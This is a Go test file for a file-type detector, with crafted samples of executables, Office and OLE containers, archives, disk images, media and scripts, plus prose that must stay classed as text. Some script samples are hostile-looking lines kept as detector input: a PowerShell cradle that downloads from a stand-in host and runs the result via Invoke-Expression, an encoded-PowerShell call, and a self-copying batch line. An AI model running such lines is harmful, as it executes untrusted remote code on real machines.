package filetype

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/binary"
	"strings"
	"testing"
	"testing/iotest"
	"unicode/utf16"
)

type sample struct {
	want string
	data string
}

func pad(s string, n int) string { return s + strings.Repeat("\x00", max(0, n-len(s))) }

func put(size int, at map[int]string) string {
	b := make([]byte, size)
	for off, s := range at {
		copy(b[off:], s)
	}
	return string(b)
}

func zipOf(t testing.TB, members ...string) string {
	t.Helper()
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, m := range members {
		name, body, _ := strings.Cut(m, "=")
		h := &zip.FileHeader{Name: name, Method: zip.Deflate}
		if name == "mimetype" {
			h.Method = zip.Store
		}
		f, err := w.CreateHeader(h)
		if err != nil {
			t.Fatal(err)
		}
		f.Write([]byte(body))
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// storedMimetype writes a first entry whose length stands before it, as writers of OpenDocument do.
func storedMimetype(typ string) string {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, _ := w.CreateRaw(&zip.FileHeader{Name: "mimetype", CompressedSize64: uint64(len(typ)), UncompressedSize64: uint64(len(typ))})
	f.Write([]byte(typ))
	f, _ = w.Create("content.xml")
	f.Write([]byte("<x/>"))
	f, _ = w.Create("META-INF/manifest.xml")
	f.Write([]byte("<x/>"))
	w.Close()
	return buf.String()
}

// compound builds a compound file: header, one FAT sector, a directory of a root and its children as a right-leaning chain.
func compound(class string, names ...string) string {
	b := make([]byte, 512*3)
	copy(b, cfbMagic)
	binary.LittleEndian.PutUint16(b[26:], 3)
	binary.LittleEndian.PutUint16(b[30:], 9)
	binary.LittleEndian.PutUint32(b[48:], 1)
	for i := 76; i < 512; i += 4 {
		binary.LittleEndian.PutUint32(b[i:], 0xFFFFFFFF)
	}
	binary.LittleEndian.PutUint32(b[76:], 0)
	fat := b[512:1024]
	binary.LittleEndian.PutUint32(fat, 0xFFFFFFFD)
	binary.LittleEndian.PutUint32(fat[4:], 0xFFFFFFFE)
	entry := func(i int, name string, typ byte, right, child uint32) {
		e := b[1024+128*i:]
		u := utf16.Encode([]rune(name))
		for j, c := range u {
			binary.LittleEndian.PutUint16(e[2*j:], c)
		}
		binary.LittleEndian.PutUint16(e[64:], uint16(2*len(u)+2))
		e[66] = typ
		binary.LittleEndian.PutUint32(e[68:], cfbNoEntry)
		binary.LittleEndian.PutUint32(e[72:], right)
		binary.LittleEndian.PutUint32(e[76:], child)
	}
	entry(0, "Root Entry", 5, cfbNoEntry, 1)
	copy(b[1024+80:1024+96], class)
	for i, n := range names {
		right := uint32(cfbNoEntry)
		if i+1 < len(names) {
			right = uint32(i + 2)
		}
		entry(i+1, n, 2, right, cfbNoEntry)
	}
	return string(b)
}

func wideText(s string, bom bool) string {
	var out []byte
	if bom {
		out = []byte{0xFF, 0xFE}
	}
	for _, u := range utf16.Encode([]rune(s)) {
		out = binary.LittleEndian.AppendUint16(out, u)
	}
	return string(out)
}

func tarOf(t testing.TB) string {
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	w.WriteHeader(&tar.Header{Name: "a", Size: 1, Mode: 0o600})
	w.Write([]byte("x"))
	w.Close()
	return buf.String()
}

func gz(s string) string {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write([]byte(s))
	w.Close()
	return buf.String()
}

func pe() string { return put(512, map[int]string{0: "MZ\x90\x00", 60: "\x80", 128: "PE\x00\x00"}) }

func types3(main string) string {
	return `[Content_Types].xml=<Types><Override PartName="/x" ContentType="application/` + main + `"/></Types>`
}

func samples(t testing.TB) []sample {
	const officeTail = "\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46"
	docx := zipOf(t, types3("vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"), "_rels/.rels=r", "word/document.xml=d")
	return append(rareSamples(), []sample{
		{"empty", ""}, {"data", "\x00\x01\x02\x03\x88\x99"}, {"text", "Dear all,\r\nplease find attached.\r\n"},
		{"pe", pe()}, {"pe", pe() + docx}, {"dos", pad("MZ\x10\x00\x02\x00", 40)}, {"dos", put(512, map[int]string{0: "MZ\x90\x00", 60: "\x80", 128: "NE"})},
		{"elf", pad("\x7FELF\x02\x01\x01", 64)}, {"macho", "\xCF\xFA\xED\xFE\x07\x00\x00\x01"}, {"macho", "\xCA\xFE\xBA\xBE\x00\x00\x00\x02"},
		{"class", "\xCA\xFE\xBA\xBE\x00\x00\x00\x34"}, {"dex", pad("dex\n035\x00", 112)}, {"wasm", "\x00asm\x01\x00\x00\x00"},
		{"lnk", pad("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 76)},
		{"zip", zipOf(t, "a.txt=a")}, {"zip", zipOf(t)}, {"zip", strings.Repeat("\x01\x00\x02", 300) + zipOf(t, "a.txt=a")},
		{"docx", docx}, {"docx", docx[:200] + docx[200:]}, {"docx", "junk" + docx},
		{"docm", zipOf(t, types3("vnd.ms-word.document.macroEnabled.main+xml"), "word/document.xml=d", "word/vbaProject.bin=v")},
		{"docm", zipOf(t, types3("vnd.ms-word.document.macroEnabled.main+xml"), "odd/document.xml=d", "odd/project.bin=v")},
		{"dotm", zipOf(t, types3("vnd.ms-word.template.macroEnabledTemplate.main+xml"), "word/document.xml=d", "word/vbaProject.bin=v")},
		{"xlsx", zipOf(t, types3("vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"), "xl/workbook.xml=w")},
		{"xlsm", zipOf(t, types3("vnd.ms-excel.sheet.macroEnabled.main+xml"), "xl/workbook.xml=w", "xl/vbaProject.bin=v")},
		{"xlsb", zipOf(t, types3("vnd.ms-excel.sheet.binary.macroEnabled.main"), "xl/workbook.bin=w")},
		{"pptx", zipOf(t, types3("vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"), "ppt/presentation.xml=w")},
		{"pptm", zipOf(t, types3("vnd.ms-powerpoint.presentation.macroEnabled.main+xml"), "ppt/vbaProject.bin=w")},
		{"odt", storedMimetype("application/vnd.oasis.opendocument.text")}, {"ods", storedMimetype("application/vnd.oasis.opendocument.spreadsheet")},
		{"odp", storedMimetype("application/vnd.oasis.opendocument.presentation")}, {"epub", storedMimetype("application/epub+zip")},
		{"jar", zipOf(t, "META-INF/MANIFEST.MF=Main-Class: A", "A.class=x")}, {"apk", zipOf(t, "META-INF/MANIFEST.MF=x", "AndroidManifest.xml=x", "classes.dex=x")},
		{"doc", compound("\x06\x09\x02\x00" + officeTail)}, {"doc", compound("", "1Table", "WordDocument")}, {"xls", compound("", "Workbook")}, {"xls", compound("", "BOOK")},
		{"ppt", compound("", "Current User", "PowerPoint Document")}, {"msg", compound("", "__nameid_version1.0")}, {"msi", compound("\x84\x10\x0C\x00" + officeTail)},
		{"msi", compound("", "WordDocument", "\u4840\u3F3F\u4577")}, {"ole", compound("", "EncryptedPackage")}, {"ole", pad(cfbMagic, 600)}, {"ole", cfbMagic},
		{"gzip", gz("x")}, {"bzip2", "BZh91AY&SY\x00\x00\x00\x00"}, {"xz", "\xFD7zXZ\x00\x00"}, {"lzma", "\x5D\x00\x00\x80\x00\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x00\x10"},
		{"zstd", "\x28\xB5\x2F\xFD\x24"}, {"zstd", "\x50\x2A\x4D\x18\x00\x00\x00\x00\x28\xB5\x2F\xFD"}, {"lz4", "\x52\x2A\x4D\x18\x00\x00\x00\x00\x04\x22\x4D\x18"}, {"lz4", "\x04\x22\x4D\x18\x64"},
		{"lzip", "LZIP\x01\x0C"}, {"lzop", "\x89LZO\x00\x0D\x0A\x1A\x0A\x10"}, {"compress", "\x1F\x9D\x90\x00"}, {"zlib", "x\x9c\xcbH\xcd\xc9\xc9\x07\x00\x06,\x02\x15"}, {"7z", "7z\xBC\xAF\x27\x1C\x00\x04"},
		{"rar", "Rar!\x1A\x07\x01\x00"}, {"rar", "Rar!\x1A\x07\x00\xCF"}, {"cab", pad("MSCF", 40)}, {"arj", pad("\x60\xEA\x2A\x00\x22\x0B\x01", 60)},
		{"lzh", pad("\x20\x00-lh5-\x10\x00\x00\x00\x10\x00\x00\x00\x00\x00\x00\x00\x20\x00", 40)}, {"ace", pad("\x00\x00\x31\x00\x00\x00\x90**ACE**", 60)},
		{"tar", tarOf(t)}, {"cpio", "070701" + strings.Repeat("0", 104)}, {"cpio", pad("\xC7\x71\x00\x00", 30)}, {"ar", "!<arch>\nfoo.o/          "}, {"deb", "!<arch>\ndebian-binary   "},
		{"rpm", pad("\xED\xAB\xEE\xDB\x03\x00", 100)}, {"iso", put(17*2048+2048, map[int]string{0x8001: "CD001"})}, {"iso", put(20*2048, map[int]string{0: "%PDF-1.4", 0x8001: "CD001"})},
		{"udf", put(20*2048, map[int]string{0x8001: "BEA01", 0x8801: "NSR02", 0x9001: "TEA01"})}, {"vhd", put(4096, map[int]string{0: "\x33\xC0", 4096 - 512: "conectix"})},
		{"vhd", pad("conectix", 512)}, {"vhdx", "vhdxfile"}, {"dmg", put(4096, map[int]string{0: "\x78\xDA", 4096 - 512: "koly\x00\x00\x00\x04"})}, {"wim", pad("MSWIM\x00\x00\x00\xD0", 208)},
		{"xar", put(28, map[int]string{0: "xar!\x00\x1C"})}, {"squashfs", put(96, map[int]string{0: "hsqs", 28: "\x04"})},
		{"fat", put(4096, map[int]string{0: "\xEB\x3C\x90mkfs.fat\x00\x02\x04\x01\x00\x02\x00\x02\x40\x0B\xF0\x09\x00"})}, {"disk", put(4096, map[int]string{450: "\x07\x00\x00\x00\x01\x00\x00\x00\x07", 510: "\x55\xAA"})},
		{"disk", put(4096, map[int]string{0: "\xEB\x52\x90NTFS    "})}, {"disk", put(4096, map[int]string{512: "EFI PART"})},
		{"chm", pad("ITSF\x03\x00\x00\x00\x60", 96)}, {"one", "\xE4\x52\x5C\x7B\x8C\xD8\xA7\x4D\xAE\xB1\x53\x78\xD0\x29\x96\xD3"}, {"tnef", "\x78\x9F\x3E\x22\x01\x00"}, {"szdd", "SZDD\x88\xF0\x27\x33A"},
		{"sis", pad("\x00\x00\x00\x01\x12\x3A\x00\x10\x19\x04\x00\x10", 100)}, {"sis", pad("\x7A\x1A\x20\x10............\x0C\x00\x00\x00", 40)},
		{"pdf", "%PDF-1.7\n"}, {"pdf", strings.Repeat("junk ", 150) + "%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"}, {"rtf", "{\\rtf1\\ansi}"}, {"rtf", "{\\rt1 x}"}, {"ps", "%!PS-Adobe-3.0\n"},
		{"html", "<!DOCTYPE html><p>x"}, {"html", "\xEF\xBB\xBF <HTML><body>"}, {"html", "<!-- c --><script>x</script>"}, {"html", wideText("<html><body>hello</body></html>", true)}, {"html", wideText("<html><body>hello</body></html>", false)},
		{"html", "<?xml version=\"1.0\"?>\n<!DOCTYPE html PUBLIC>\n<html>"}, {"hta", "<html><head><HTA:APPLICATION id=x></head></html>"}, {"svg", "<?xml version=\"1.0\"?><svg xmlns=\"x\">"}, {"svg", "<svg width=1>"},
		{"xml", "<?xml version=\"1.0\"?><root/>"}, {"wsf", "<job id=\"a\"><script language=\"JScript\">x</script></job>"},
		{"eml", "Received: from a by b\r\nFrom: a@b.example\r\nSubject: x\r\n\r\nhi"}, {"mbox", "From a@b.example Mon Jan  1 00:00:00 2024\nFrom: a\nTo: b\n\nhi"},
		{"js", "var a = new ActiveXObject(\"WScript.Shell\");\na.Run('x');\n"}, {"js", "const a = 1;\nlet b = 2;\nwindow.open(a);\n"}, {"js", "(function(){var a=1;eval(String.fromCharCode(65));})();"}, {"js", wideText("var a = new ActiveXObject('x');", true)}, {"js", "#!/usr/bin/env node\nx"},
		{"vbs", "On Error Resume Next\r\nDim a, b\r\nSet a = CreateObject(\"WScript.Shell\")\r\n"}, {"vbs", "Sub Foo()\nDim x\nEnd Sub\n"}, {"vbs", "#@~^eAAAAA==abc"},
		{"text", "Attribute VB_Name = \"Module1\"\r\nSub Foo()\r\nDim x\r\nEnd Sub\r\n"},
		{"ps1", "$a = New-Object Net.WebClient\n$b = $a.DownloadString('http://x.example')\nInvoke-Expression $b\n"}, {"ps1", "IEX (New-Object Net.WebClient).DownloadString('x')"}, {"ps1", "param(\n[string]$x\n)\nWrite-Host \"$x\"\nGet-ChildItem $env:TEMP"},
		{"bat", "@echo off\r\nset a=b\r\n"}, {"bat", "rem x\r\nset a=1\r\ngoto end\r\n:end\r\n"}, {"bat", "powershell -enc AAAA"}, {"bat", "start /b x\r\ncopy %0 c:\\x\r\ndel c:\\y"},
		{"sh", "#!/bin/sh\necho x"}, {"python", "#!/usr/bin/python3\n"}, {"python", "import os\n\ndef f(a):\n    return a\n"}, {"perl", "use strict;\nmy $a = 1;\n"}, {"php", "<?php echo 1;"}, {"json", "{ \"a\": 1 }"}, {"json", "[{\"a\":1}]"},
		{"jpeg", "\xFF\xD8\xFF\xE0"}, {"png", "\x89PNG\r\n\x1A\n"}, {"gif", "GIF89a"}, {"bmp", put(60, map[int]string{0: "BM\x3C\x00", 10: "\x36", 14: "\x28"})}, {"webp", "RIFF\x00\x00\x00\x00WEBPVP8 "}, {"tiff", "II\x2A\x00\x08\x00\x00\x00"},
		{"ico", pad("\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00", 40)}, {"mp3", "ID3\x03\x00\x00\x00\x00\x00\x00"}, {"mp3", "\xFF\xFB\x90\x64"}, {"mp4", "\x00\x00\x00\x18ftypisom"}, {"heif", "\x00\x00\x00\x18ftypheic"}, {"wav", "RIFF\x00\x00\x00\x00WAVEfmt "}, {"avi", "RIFF\x00\x00\x00\x00AVI LIST"},
		{"ogg", "OggS\x00\x02"}, {"flac", "fLaC\x00"}, {"woff", "wOFF\x00\x01\x00\x00"}, {"woff2", "wOF2\x00\x01\x00\x00"}, {"ttf", pad("\x00\x01\x00\x00\x00\x10", 16)}, {"otf", "OTTO\x00\x0A"}, {"swf", "CWS\x09\x00\x10\x00\x00\x78"}, {"sqlite", "SQLite format 3\x00"},
		{"mkv", "\x1A\x45\xDF\xA3\x01"}, {"asf", "\x30\x26\xB2\x75\x8E\x66\xCF\x11\xA6\xD9"}, {"flv", "FLV\x01\x05"}, {"midi", "MThd\x00\x00"}, {"psd", "8BPS\x00\x01"},
		{"ics", "BEGIN:VCALENDAR\r\n"}, {"vcard", "BEGIN:VCARD\r\n"}, {"pem", "-----BEGIN CERTIFICATE-----\nMII"}, {"pgp", "-----BEGIN PGP MESSAGE-----\n"}, {"uu", "begin 644 a.exe\nM35"},
		{"p7s", "\x30\x80\x06\x09\x2A\x86\x48\x86\xF7\x0D\x01\x07\x02\xA0\x80\x30\x80\x02\x01\x01\x31\x0F\x30\x0B\x06\x09\x2A\x86\x48\x86\xF7\x0D\x01\x07\x01"},
		{"p7m", "\x30\x82\x10\x00\x06\x09\x2A\x86\x48\x86\xF7\x0D\x01\x07\x03\xA0\x82"}, {"binhex", "(This file must be converted with BinHex 4.0)\n"},
		{"applefile", "\x00\x05\x16\x07\x00\x02\x00\x00"}, {"applefile", macBinary()}, {"p7m", "\x30\x80\x06\x0B\x2A\x86\x48\x86\xF7\x0D\x01\x09\x10\x01\x09\xA0\x80"},
		{"jp2", "\x00\x00\x00\x0CjP  \x0D\x0A\x87\x0A\x00"},
		{"text", wideText("Guten Tag, anbei die Rechnung.", true)}, {"text", "Gr\xFC\xDFe aus K\xF6ln\n"}, {"text", "MZ is what programs begin with, but this is only a letter about them, and long enough."},
	}...)
}

func TestDetect(t *testing.T) {
	seen := make(map[string]bool)
	for i, s := range samples(t) {
		seen[s.want] = true
		head := []byte(s.data)[:min(len(s.data), headSize)]
		if got := Detect(head, strings.NewReader(s.data)); got.Name != s.want {
			t.Errorf("%d: %.40q: got %s, want %s", i, s.data, got.Name, s.want)
		}
		// However little of the head the caller has, the answer stays.
		for _, n := range []int{0, 1, 17} {
			if got := Detect(head[:min(n, len(head))], strings.NewReader(s.data)); got.Name != s.want {
				t.Errorf("%d: %.40q with a head of %d bytes: got %s, want %s", i, s.data, n, got.Name, s.want)
			}
		}
		if len(s.data) <= headSize {
			if got := Detect([]byte(s.data), nil); got.Name != s.want {
				t.Errorf("%d: %.40q without a source: got %s, want %s", i, s.data, got.Name, s.want)
			}
		}
	}
	for _, typ := range All() {
		if !seen[typ.Name] {
			t.Errorf("no sample of type %q", typ.Name)
		}
	}
}

// macBinary is the head of a MacBinary file.
func macBinary() string {
	b := make([]byte, 256)
	copy(b[1:], "\x06read.meTEXT")
	copy(b[65:], "TEXTttxt")
	b[86], b[122], b[123] = 5, 129, 129
	return string(b)
}

// TestProse holds letters that speak of code, commands and mail; none of them runs.
func TestProse(t *testing.T) {
	for i, s := range []string{
		"Hi,\n\nthe function of the var is to let the const be. Return it to me;\nplease set up = later.\n",
		"If you use PowerShell, type Invoke-Expression or New-Object and look at $env:TEMP.\nGet-together on Friday - bring \"cake\".\n",
		"Set-up of the room: start at 9.\nAdd-ons are extra.\n",
		"@ echo of what you said: set the date, go to the end, call me.\nCopy the file to Bob.\nStart now.\nDel Monte sends regards.\n",
		"Dim the lights\nSub for Bob\nEnd if you can\nNext week we meet.\nOn error resume next time.\n",
		"Dear Ann,\n\nFrom: the start To: the end, it was great.\n",
		"From the desk of Bob: hello\n\nYours\n",
		"Import duties rise.\nClass of 1999 (reunion):\nFrom Rome we import wine.\n",
		"I wrote <b>bold</b> in the middle, and 3 < 4 > 2.\n",
		"BM is a car maker? No, that is BMW, as everyone in this long line of text knows.",
		"Rar! she said.", "GIF me a break", "FWS and CWS are two letters groups", "ID3 tags are text about music, and more\n", "ISc(something) else altogether in text\n",
		"begin at the beginning\n", "begin 20 minutes earlier\n", "{ braces } in text", "[sic] he wrote", "#hashtag of the day\n", "::: colons\n",
		"1;2;3\n4;5;6\n", "name,phone\nAnn,123\n", "0707012345 is my phone number\n",
		"The price is $5 = 4 euro\n$10 = 8 euro\n", "Call cmd and then copy what it prints, or use curl.\ncmd is black.\n",
		"Please run the following: powershell -enc is bad.\n", "eval( is evil, document. it\n", "a(b)\nc(d);\n",
		"import os is how Python starts\n", "#! is called shebang\n", "Hello {name};\nhow are you;\n",
		"# Usage\n\n```js\nconst a = 1;\nlet b = 2;\nwindow.open(a);\n```\n",
		"Such a file begins with\n%PDF-1.4\nand ends with\n%%EOF\n, and is no more than that.\n",
		"2024-01-01 12:00:00 INFO start /api/v1\n2024-01-01 12:00:01 WARN function(x) failed;\n",
	} {
		if got := Detect([]byte(s), nil); got.Name != "text" {
			t.Errorf("%d: %.60q: got %s", i, s, got.Name)
		}
		if got := Detect([]byte(wideText(s, true)), nil); got.Name != "text" {
			t.Errorf("%d: UTF-16 %.60q: got %s", i, s, got.Name)
		}
	}
}

func TestSourceFails(t *testing.T) {
	for _, s := range samples(t) {
		Detect(nil, failing{int64(len(s.data))})
		Detect([]byte(s.data)[:min(len(s.data), 100)], failing{1 << 40})
	}
}

type failing struct{ size int64 }

func (f failing) ReadAt([]byte, int64) (int, error) { return 0, iotest.ErrTimeout }
func (f failing) Size() int64                       { return f.size }

func TestTable(t *testing.T) {
	seen := make(map[string]bool)
	for i, typ := range All() {
		if typ.Name == "" || typ.MediaType == "" || seen[typ.Name] || !strings.Contains(typ.MediaType, "/") {
			t.Errorf("row %d: %+v", i, typ)
		}
		seen[typ.Name] = true
		if got, ok := Lookup(typ.Name); !ok || got != typ {
			t.Errorf("Lookup(%q) = %v, %v", typ.Name, got, ok)
		}
	}
	if _, ok := Lookup("nonesuch"); ok {
		t.Error("Lookup finds what is not there")
	}
	for ext, names := range honest {
		for _, n := range names {
			typ, ok := Lookup(n)
			if !ok {
				t.Errorf("extension %q: no type %q", ext, n)
			}
			if Contradicts(ext, typ) {
				t.Errorf("%q is honest as %q and contradicted by it", ext, n)
			}
		}
	}
}

func TestContradicts(t *testing.T) {
	for _, c := range []struct {
		ext, typ string
		want     bool
	}{
		{"jpg", "pe", true}, {"pdf", "js", true}, {"txt", "elf", true}, {"docx", "jar", true}, {"pdf", "hta", true}, {"txt", "lnk", true}, {"zip", "pe", true}, {"xls", "vbs", true},
		{"docx", "zip", false}, {"txt", "html", false}, {"txt", "bat", false}, {"dat", "pe", false}, {"bin", "elf", false}, {"", "pe", false}, {"exe", "pe", false}, {"zip", "jar", false},
		{"xls", "html", false}, {"doc", "rtf", false}, {"jpg", "png", false}, {"pdf", "html", false},
	} {
		typ, ok := Lookup(c.typ)
		if !ok {
			t.Fatal(c.typ)
		}
		if got := Contradicts(c.ext, typ); got != c.want {
			t.Errorf("Contradicts(%q, %s) = %v", c.ext, c.typ, got)
		}
	}
}
